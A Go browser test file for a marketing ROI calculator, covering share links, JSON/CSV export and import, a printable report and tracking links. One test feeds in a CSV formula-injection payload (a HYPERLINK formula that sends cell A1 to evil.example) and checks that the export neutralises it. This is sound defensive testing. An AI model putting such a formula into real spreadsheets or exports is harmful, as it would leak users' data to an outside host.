//go:build browser

// Browser tests of the reach features (issue 4): share links made as
// `roi share` makes them, export and import, the print report, and the
// tracking links. Each test starts its own server and a fresh browser.

package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/socialroi/socialroi/roi"
)

// reachDownloads lets the browser save downloads into dir, named by their
// GUIDs, with download events on.
func reachDownloads(t *testing.T, p *browserPage, dir string) {
	t.Helper()
	on := true
	if _, err := chromedp.CallBrowser(p.ctx, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{
		Behavior: browser.SetDownloadBehaviorBehaviorAllowAndName,
		// The page's own browser context (newBrowserPage), not the
		// browser's default one.
		BrowserContextID: chromedp.FromContext(p.ctx).BrowserContextID,
		DownloadPath:     dir,
		EventsEnabled:    &on,
	}); err != nil {
		t.Fatalf("Browser.setDownloadBehavior: %v", err)
	}
}

// reachDownload clicks sel and returns the suggested name and the content of
// the download it starts.
func reachDownload(t *testing.T, p *browserPage, dir, sel string) (name string, data []byte) {
	t.Helper()
	ctx, cancel := context.WithTimeout(p.ctx, browserWait)
	defer cancel()
	begun := make(chan browser.EventDownloadWillBegin, 4)
	done := make(chan browser.EventDownloadProgress, 4)
	go func() {
		for ev, err := range chromedp.BrowserEvents(ctx, browser.DownloadWillBegin) {
			if err != nil {
				return
			}
			begun <- ev
		}
	}()
	go func() {
		for ev, err := range chromedp.BrowserEvents(ctx, browser.DownloadProgress) {
			if err != nil {
				return
			}
			if ev.State != browser.DownloadProgressStateInProgress {
				done <- ev
			}
		}
	}()
	p.click(sel)
	var guid string
	for {
		select {
		case ev := <-begun:
			name, guid = ev.SuggestedFilename, ev.GUID
		case ev := <-done:
			if ev.State != browser.DownloadProgressStateCompleted {
				t.Fatalf("download from %s: state %s", sel, ev.State)
			}
			if guid == "" {
				guid = ev.GUID
			}
			path := ev.FilePath
			if path == "" {
				path = filepath.Join(dir, ev.GUID)
			}
			b, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("download from %s completed, but: %v", sel, err)
			}
			if name == "" {
				select {
				case ev := <-begun:
					name = ev.SuggestedFilename
				default:
				}
			}
			return name, b
		case <-ctx.Done():
			status := eval[string](p, `(() => { const e = document.getElementById("file-status"); return e ? e.textContent.trim() : "(no #file-status)" })()`)
			t.Fatalf("clicking %s: no completed download within %v (guid %q; #file-status says %q)", sel, browserWait, guid, status)
		}
	}
}

// reachText is the trimmed text of the element matching sel, or "".
func reachText(p *browserPage, sel string) string {
	p.tb.Helper()
	return eval[string](p, `(() => { const e = document.querySelector(`+jsq(sel)+`); return e ? e.textContent.trim() : "" })()`)
}

// TestShareRoundTrip: a link made as `roi share` makes it opens, over saved
// work, as an unsaved scenario with the engine's figures; Save keeps it; a
// reload does not open it again; the app's own Share makes a link that
// decodes to the stored scenario.
func TestShareRoundTrip(t *testing.T) {
	srv := startBrowserServer(t, browserDist(t))
	p := newBrowserPage(t, srv.URL)
	// The server's Permissions-Policy has clipboard-read=(), so the page
	// cannot read the clipboard back: record what the app writes to it.
	p.onNewDocument(`(() => {
		if (!window.Clipboard) return;
		const write = Clipboard.prototype.writeText;
		Clipboard.prototype.writeText = function (text) { window.__reachCopied = String(text); return write.call(this, text) };
	})()`)
	p.open("/")
	p.waitSaved("the e-commerce preset saved", `d.scenarios.length === 1`)
	before := p.storageDump()

	sc := mustPreset(t, "saas").Clone()
	sc.Name = "Shared SaaS plan"
	sc.Costs[3].Amount = roi.N("3456.5") // X ads
	link := roi.ShareLink(p.base+"/", sc)
	want, err := roi.DecodeShare(link[strings.Index(link, "#s=")+3:])
	if err != nil {
		t.Fatalf("roi.DecodeShare of roi.ShareLink: %v", err)
	}
	if mustJSON(t, want) != mustJSON(t, sc) {
		t.Logf("note: the share encoding normalises the scenario:\n %s\n->%s", mustJSON(t, sc), mustJSON(t, want))
	}

	// A full load of the link, as when it is opened from a mail.
	p.do("leaving the app", chromedp.Navigate("about:blank"))
	p.do("opening the share link", chromedp.Navigate(link))
	p.waitReady()
	p.waitValue("f-name", sc.Name)
	n := p.checkFigures(mustCalculate(t, want))
	t.Logf("%d figures of the shared scenario equal the engine's", n)
	p.waitVisible("#incoming-banner")
	if h := eval[string](p, `location.hash`); strings.Contains(h, "s=") {
		t.Errorf("after opening the link location.hash = %.60q; want the share payload removed", h)
	}
	if got := p.storageDump(); got != before {
		t.Errorf("opening the link changed localStorage before Save:\n got %s\nwant %s", got, before)
	}

	p.click("#save-shared")
	p.waitSaved("the shared scenario saved", `d.scenarios.length === 2`)
	d := p.saved()
	if got := mustJSON(t, p.savedScenario(d, d.Current)); got != mustJSON(t, want) {
		t.Errorf("after Save the current stored scenario is\n %s\nwant the link's\n %s", got, mustJSON(t, want))
	}
	p.waitJS("#incoming-banner gone after Save", `!`+visibleJS+`(document.getElementById("incoming-banner"))`, "")

	// The fragment was cleared: a reload shows the saved scenario, no banner.
	p.reload()
	p.waitValue("f-name", sc.Name)
	p.checkFigures(mustCalculate(t, want))
	if p.visible("#incoming-banner") {
		t.Errorf("after a reload #incoming-banner is shown: the link was opened again")
	}
	if got := len(p.saved().Scenarios); got != 2 {
		t.Errorf("after a reload %d scenarios are saved; want 2", got)
	}

	// The app's own Share button.
	if _, err := chromedp.CallBrowser(p.ctx, browser.SetPermission, browser.SetPermissionParams{
		Permission:       &browser.PermissionDescriptor{Name: "clipboard-write"},
		Setting:          browser.PermissionSettingGranted,
		Origin:           p.base,
		BrowserContextID: chromedp.FromContext(p.ctx).BrowserContextID,
	}); err != nil {
		t.Logf("granting clipboard-write: %v", err)
	}
	p.typeInto("f-costs-3-amount", "2999") // costs[3], the SaaS preset's X ads line
	p.waitSaved("the edit saved", `d.scenarios.some(e => e.id === d.current && e.scenario.costs[3].amount === "2999")`)
	stored := p.currentScenario()
	p.choose("share-to", "calc") // the link to the calculator (a report link is TestReportLink's)
	p.click("#share")
	p.waitJS("#share-link", `(() => { const e = document.getElementById("share-link"); return !!e && e.value.includes("#s=") })()`,
		`(() => { const e = document.getElementById("share-status"); return e ? e.textContent : "(no #share-status)" })()`)
	shared := p.value("share-link")
	if !strings.HasPrefix(shared, p.base+"/#s=") {
		t.Errorf("#share-link = %.80q; want it to start with %s/#s=", shared, p.base)
	}
	got, err := roi.DecodeShare(shared[strings.Index(shared, "#s=")+3:])
	if err != nil {
		t.Fatalf("roi.DecodeShare(#share-link): %v", err)
	}
	if mustJSON(t, got) != mustJSON(t, stored) {
		t.Errorf("#share-link decodes to\n %s\nwant the stored scenario\n %s", mustJSON(t, got), mustJSON(t, stored))
	}
	p.waitJS("the link copied", `typeof window.__reachCopied === "string"`,
		`(() => { const e = document.getElementById("share-status"); return e ? e.textContent : "(no #share-status)" })()`)
	if clip := eval[string](p, `window.__reachCopied`); clip != shared {
		t.Errorf("Share copied %.80q; want #share-link's %.80q", clip, shared)
	}
	t.Logf("#share-status says %q", reachText(p, "#share-status"))
}

// TestExportImport: Export JSON is the current scenario, Export CSV is
// `roi report -format csv` of it, importing the JSON adds it back with the
// engine's figures, and a file with a bad number names the field and
// changes nothing.
func TestExportImport(t *testing.T) {
	srv := startBrowserServer(t, browserDist(t))
	p := newBrowserPage(t, srv.URL)
	p.open("/")
	downloads := t.TempDir()
	reachDownloads(t, p, downloads)

	p.typeInto(adsAmount, "5000")
	p.waitSaved("the edit saved", `d.scenarios.some(e => e.id === d.current && e.scenario.costs[2].amount === "5000")`)
	cur := p.currentScenario()

	name, data := reachDownload(t, p, downloads, "#export-json")
	t.Logf("Export JSON saved %q, %d bytes", name, len(data))
	exported, problems, err := roi.Parse(data)
	if err != nil {
		t.Fatalf("roi.Parse of the exported JSON: %v (%v)\n%s", err, problems, data)
	}
	if mustJSON(t, exported) != mustJSON(t, cur) {
		t.Errorf("exported JSON parses to\n %s\nwant the current scenario\n %s", mustJSON(t, exported), mustJSON(t, cur))
	}

	name, csvData := reachDownload(t, p, downloads, "#export-csv")
	t.Logf("Export CSV saved %q, %d bytes", name, len(csvData))
	var wantCSV bytes.Buffer
	if err := roi.WriteCSV(&wantCSV, mustCalculate(t, cur)); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(csvData, wantCSV.Bytes()) {
		t.Errorf("exported CSV differs from roi.WriteCSV (roi report -format csv):\n got %q\nwant %q", csvData, wantCSV.Bytes())
	}

	// Edit, then import the exported file: it comes back as a new scenario.
	p.typeInto(adsAmount, "7777")
	p.waitSaved("the second edit saved", `d.scenarios.some(e => e.id === d.current && e.scenario.costs[2].amount === "7777")`)
	dir := t.TempDir()
	good := filepath.Join(dir, "exported.json")
	if err := os.WriteFile(good, data, 0o644); err != nil {
		t.Fatal(err)
	}
	upload := func(path string) {
		t.Helper()
		eval[bool](p, `(() => { document.getElementById("import-file").scrollIntoView({block: "center"}); return true })()`)
		p.do("setting #import-file to "+filepath.Base(path), chromedp.SetUploadFiles(chromedp.CSS("#import-file"), []string{path}))
	}
	upload(good)
	p.waitSaved("the import saved", `d.scenarios.length === 2`)
	d := p.saved()
	// Its name is taken (the scenario it was exported from): it comes in
	// as "(2)", otherwise as exported.
	wantImported := exported.Clone()
	wantImported.Name += " (2)"
	if got := mustJSON(t, p.savedScenario(d, d.Current)); got != mustJSON(t, wantImported) {
		t.Errorf("the imported scenario is\n %s\nwant the exported one, named (2)\n %s", got, mustJSON(t, wantImported))
	}
	n := p.checkFigures(mustCalculate(t, exported))
	t.Logf("after the import %d figures equal the engine's; #file-status says %q", n, reachText(p, "#file-status"))
	edited := 0
	for _, e := range d.Scenarios {
		if strings.Contains(string(e.Scenario), `"7777"`) {
			edited++
		}
	}
	if edited != 1 {
		t.Errorf("after the import %d stored scenarios hold the edit 7777; want the edited one kept", edited)
	}

	// A bad number: a notice names the field as the form does (Cost line 3, Amount), nothing changes.
	var doc map[string]any
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatal(err)
	}
	doc["costs"].([]any)[2].(map[string]any)["amount"] = "12x"
	badData, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	bad := filepath.Join(dir, "bad-number.json")
	if err := os.WriteFile(bad, badData, 0o644); err != nil {
		t.Fatal(err)
	}
	before := p.storageDump()
	upload(bad)
	p.waitVisible("#import-notice")
	notice := reachText(p, "#import-notice")
	t.Logf("#import-notice says %q", notice)
	if !strings.Contains(notice, "Cost line 3, Amount") {
		t.Errorf("#import-notice = %q; want it to name the field Cost line 3, Amount", notice)
	}
	if got := p.storageDump(); got != before {
		t.Errorf("a refused import changed localStorage:\n got %s\nwant %s", got, before)
	}
	p.checkFigures(mustCalculate(t, exported))
}

// TestExportCSVNeutralisesFormulas: a shared scenario whose name is a
// spreadsheet formula and whose cost labels start with @ and +, opened from
// a link made by roi.ShareLink and saved, exports a CSV in which those cells
// carry OWASP's single quote and no cell reads as a formula; the file is
// still exactly what roi.WriteCSV (roi report -format csv) writes.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	srv := startBrowserServer(t, browserDist(t))
	p := newBrowserPage(t, srv.URL)
	p.open("/")
	p.waitSaved("the e-commerce preset saved", `d.scenarios.length === 1`)
	downloads := t.TempDir()
	reachDownloads(t, p, downloads)

	const hyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"x")`
	sc := mustPreset(t, "saas").Clone()
	sc.Name = hyperlink
	sc.Costs[0].Label = "@SUM(A1:A9)"
	sc.Costs[1].Label = "+47 123"
	p.do("leaving the app", chromedp.Navigate("about:blank"))
	p.do("opening the share link", chromedp.Navigate(roi.ShareLink(p.base+"/", sc)))
	p.waitReady()
	p.waitValue("f-name", hyperlink)
	p.click("#save-shared")
	p.waitSaved("the shared scenario saved", `d.scenarios.length === 2`)
	cur := p.currentScenario()
	if cur.Name != hyperlink {
		t.Fatalf("the saved scenario is named %q; want %q", cur.Name, hyperlink)
	}

	_, data := reachDownload(t, p, downloads, "#export-csv")
	var want bytes.Buffer
	if err := roi.WriteCSV(&want, mustCalculate(t, cur)); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(data, want.Bytes()) {
		t.Errorf("exported CSV differs from roi.WriteCSV (roi report -format csv):\n got %q\nwant %q", data, want.Bytes())
	}
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("the exported CSV does not read: %v\n%s", err, data)
	}
	cells := map[string]bool{}
	for _, row := range rows {
		for _, c := range row {
			cells[c] = true
			if formulaCell(c) {
				t.Errorf("exported cell %q (row %q) starts a formula", c, row)
			}
		}
	}
	for _, c := range []string{"'" + hyperlink, "'@SUM(A1:A9).cost", "'+47 123.cost"} {
		if !cells[c] {
			t.Errorf("the exported CSV has no cell %q:\n%s", c, data)
		}
	}
}

// formulaCell reports whether a spreadsheet could read the CSV cell c as a
// formula: it starts with a tab or CR, or with = + - @ (after blanks), and
// is not a plain decimal number such as -12.50.
func formulaCell(c string) bool {
	if strings.HasPrefix(c, "\t") || strings.HasPrefix(c, "\r") {
		return true
	}
	rest := strings.TrimLeft(c, " \t\r\n")
	if rest == "" || !strings.ContainsRune("=+-@", rune(rest[0])) {
		return false
	}
	if rest != c {
		return true
	}
	whole, frac, point := strings.Cut(c[1:], ".")
	digits := func(x string) bool { return x != "" && strings.Trim(x, "0123456789") == "" }
	return c[0] == '=' || c[0] == '@' || !digits(whole) || point && !digits(frac)
}

// TestPrintReport: /report shows the current scenario's name, the date, the
// engine's headline figures and every action's value; it prints to a PDF and
// fits a 375 px phone.
func TestPrintReport(t *testing.T) {
	srv := startBrowserServer(t, browserDist(t))
	p := newBrowserPage(t, srv.URL)
	p.open("/")
	p.typeInto(adsAmount, "5000")
	p.waitSaved("the edit saved", `d.scenarios.some(e => e.id === d.current && e.scenario.costs[2].amount === "5000")`)
	sc := p.currentScenario()
	r := mustCalculate(t, sc)

	p.open("/report")
	p.waitJS("#report-name", `(() => { const e = document.getElementById("report-name"); return !!e && e.textContent.trim() === `+jsq(sc.Name)+` })()`,
		`(() => { const e = document.getElementById("report-name"); return e ? e.textContent : "(no #report-name)" })()`)
	date := eval[string](p, `(() => { const e = document.getElementById("report-date"); return e ? e.getAttribute("datetime") + " | " + e.textContent.trim() : "(no #report-date)" })()`)
	day, text, _ := strings.Cut(date, " | ")
	now := time.Now()
	if day != now.Format("2006-01-02") && day != now.UTC().Format("2006-01-02") {
		t.Errorf("#report-date datetime = %q; want today, %s", day, now.Format("2006-01-02"))
	}
	if text == "" {
		t.Errorf("#report-date has no text")
	}
	t.Logf("#report-date: %s", date)

	heads := eval[[]figure](p, `[...document.querySelectorAll("#report-headline [data-figure]")].map(e => ({key: e.dataset.figure, value: e.getAttribute("data-value"), where: "report"}))`)
	seen := map[string]bool{}
	for _, f := range heads {
		want, ok := expectedFigure(r, f.Key)
		if !ok {
			t.Errorf("#report-headline figure %q is not in the engine's report", f.Key)
			continue
		}
		seen[f.Key] = true
		if f.Value != want {
			t.Errorf("#report-headline %s data-value = %q; want %q (engine)", f.Key, f.Value, want)
		}
	}
	for _, k := range []string{"roi.direct", "roi.total", "totals.cost", "totals.directRevenue"} {
		if !seen[k] {
			t.Errorf("#report-headline has no [data-figure=%q]", k)
		}
	}

	// Every action's value, in order, in the assumptions.
	type row struct{ Label, Value string }
	rows := eval[[]row](p, `[...document.querySelectorAll("#report-assumptions #assume-actions tr")].map(tr => ({
		Label: tr.querySelector("th") ? tr.querySelector("th").textContent.trim() : "",
		Value: tr.querySelector("td") ? tr.querySelector("td").textContent.trim() : ""}))`)
	if len(rows) != len(sc.Actions) {
		t.Errorf("#assume-actions has %d rows; want one per action, %d (#report-assumptions: %q)", len(rows), len(sc.Actions), reachText(p, "#report-assumptions"))
	}
	digits := func(s string) string {
		return strings.Map(func(r rune) rune {
			if r >= '0' && r <= '9' {
				return r
			}
			return -1
		}, s)
	}
	for i, a := range sc.Actions {
		if i >= len(rows) {
			break
		}
		if rows[i].Label != a.Label {
			t.Errorf("#assume-actions row %d label = %q; want %q", i, rows[i].Label, a.Label)
		}
		v := a.UnitValue
		if a.ValueFrom != nil {
			v = a.ValueFrom.Value
		}
		if d := digits(strings.TrimRight(strings.TrimRight(string(v), "0"), ".")); d != "" && !strings.Contains(digits(rows[i].Value), strings.TrimLeft(d, "0")) {
			t.Errorf("#assume-actions row %d (%s) = %q; want it to show the value %s", i, a.Label, rows[i].Value, v)
		}
		if a.ValueFrom != nil && a.ValueFrom.Rate != "" && !strings.Contains(digits(rows[i].Value), digits(string(a.ValueFrom.Rate))) {
			t.Errorf("#assume-actions row %d (%s) = %q; want it to show the rate %s", i, a.Label, rows[i].Value, a.ValueFrom.Rate)
		}
	}

	// Print to PDF.
	pdf, err := chromedp.Call(p.ctx, page.PrintToPDF, page.PrintToPDFParams{})
	if err != nil {
		t.Fatalf("Page.printToPDF: %v", err)
	}
	if !bytes.HasPrefix(pdf.Data, []byte("%PDF")) || len(pdf.Data) <= 10<<10 {
		t.Errorf("the PDF is %d bytes starting %q; want > 10 KB starting %%PDF", len(pdf.Data), pdf.Data[:min(8, len(pdf.Data))])
	}
	t.Logf("the report prints to a %d-byte PDF", len(pdf.Data))

	// A phone: 375 px wide, no sideways scroll.
	p.do("emulating a 375x812 phone", chromedp.EmulateViewport(375, 812, chromedp.EmulateMobile, chromedp.EmulateTouch))
	p.waitJS("a 375 px viewport", `innerWidth === 375`, `innerWidth`)
	ctx, cancel := context.WithTimeout(p.ctx, browserWait)
	defer cancel()
	png, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
	if err != nil {
		t.Fatalf("Page.captureScreenshot: %v", err)
	}
	if !bytes.HasPrefix(png, []byte("\x89PNG")) {
		t.Errorf("the screenshot is not a PNG (%d bytes)", len(png))
	}
	if wide := p.sideways("#report"); len(wide) > 0 {
		t.Errorf("/report at 375 px: the page scrolls sideways: %q", wide)
	}
	t.Logf("/report at 375 px: %d-byte screenshot", len(png))
}

// TestTrackingLinks: with a base URL set, each channel's link is the
// engine's.
func TestTrackingLinks(t *testing.T) {
	srv := startBrowserServer(t, browserDist(t))
	p := newBrowserPage(t, srv.URL)
	p.open("/")
	p.waitSaved("the e-commerce preset saved", `d.scenarios.length === 1`)

	const base = "https://shop.example.com/spring?ref=1"
	if !eval[bool](p, `!!document.querySelector("#sec-tracking") && document.querySelector("#sec-tracking").open`) {
		p.click("#sec-tracking > summary")
	}
	p.typeInto("f-tracking-baseUrl", base)
	p.waitSaved("the base URL saved", `d.scenarios.some(e => e.id === d.current && e.scenario.tracking && e.scenario.tracking.baseUrl === `+jsq(base)+`)`)
	sc := p.currentScenario()
	links := roi.TrackingLinks(sc)
	if len(links) == 0 {
		t.Fatalf("roi.TrackingLinks of the stored scenario gives no link (tracking %+v)", sc.Tracking)
	}
	for _, l := range links {
		p.waitValue("utm-link-"+l.Channel, l.URL)
	}
	if got := eval[int](p, `document.querySelectorAll("[id^=utm-link-]").length`); got != len(links) {
		t.Errorf("%d #utm-link-... fields; want one per channel, %d", got, len(links))
	}
	t.Logf("%d tracking links equal the engine's, e.g. %s", len(links), links[0].URL)
}
